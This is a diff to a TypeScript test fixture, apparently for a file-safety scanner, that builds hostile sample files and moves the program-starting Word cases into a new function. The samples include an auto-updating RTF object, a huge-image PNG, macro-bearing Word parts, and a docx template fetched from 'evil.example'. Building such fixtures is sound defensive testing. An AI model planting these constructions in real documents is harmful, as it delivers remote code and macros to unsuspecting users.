@@ -101,11 +101,12 @@ export const harmful: HostileFile[] = [
   ['rich text that runs when it is opened', 'rtf', () => anRtf('{\\object\\objupdate}')],
   ['a picture of 900 million points', 'png', hugePng],
   ...actingWord(),
+  ...startingWord(),
   ...actingPdf(),
   ...actingText(),
 ]
 
-/** Word files that fetch or start something when they are opened. */
+/** Word files with macros, or that fetch something when they are opened. */
 function actingWord(): HostileFile[] {
   const template = (target: string) => () => aDocx([relations(['attachedTemplate', target])])
   const other = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject'
@@ -113,7 +114,6 @@ function actingWord(): HostileFile[] {
   const part = (name: string, bytes: Buffer = Buffer.from('x')) => ({ name, bytes })
   const kinds = (type: string) =>
     `<Override PartName="/word/notes.dat" ContentType="application/vnd.${type}"/><Default Extension="xml" ContentType="application/xml"/>`
-  const wide = (xml: string) => utf16(`<?xml version="1.0" encoding="UTF-16"?>${xml}`)
   const nested = aZip([part('xl/workbook.xml'), part('xl/vbaProject.bin')])
   return [
     ['a Word file with a template on the web', 'docx', template('http://evil.example/t.dotm')],
@@ -156,6 +156,13 @@ function actingWord(): HostileFile[] {
       () => aDocx([part('word/media/image1.png', container)]),
     ],
     ['a Word file with a spreadsheet that has macros', 'docx', () => aDocx([part('word/embeddings/a.xlsx', nested)])],
+  ]
+}
+
+/** Word files that start another program. */
+function startingWord(): HostileFile[] {
+  const wide = (xml: string) => utf16(`<?xml version="1.0" encoding="UTF-16"?>${xml}`)
+  return [
     [
       'a Word file that starts a program',
       'docx',
